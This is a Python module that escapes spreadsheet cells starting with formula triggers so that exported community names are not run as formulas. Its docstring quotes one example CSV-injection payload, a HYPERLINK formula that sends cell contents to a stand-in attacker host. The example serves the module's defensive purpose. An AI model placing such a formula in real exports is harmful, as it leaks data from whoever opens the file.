"""Cells for Excel and CSV exports that spreadsheet programs will not run as formulas.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some programs strip before looking) is taken for a formula by Excel and LibreOffice, so a
community name like ``=HYPERLINK("http://evil.example/?"&A1)`` in an export would run
when a clerk opens the file (OWASP "CSV injection"). Every text cell of every export goes
through :func:`safe_cell`, which prefixes such text with an apostrophe: the program then
shows it as text, and the apostrophe itself is not displayed in Excel.
"""

from __future__ import annotations

from typing import TypeVar

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

Cell = TypeVar("Cell")


def safe_cell(value: Cell) -> Cell | str:
    """``value`` as it may go into a cell: text starting with a formula trigger gets a leading apostrophe.

    Numbers, dates, booleans and None are returned unchanged (a negative number is a number,
    not a formula); so is text that cannot start a formula.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: list[object]) -> list[object]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
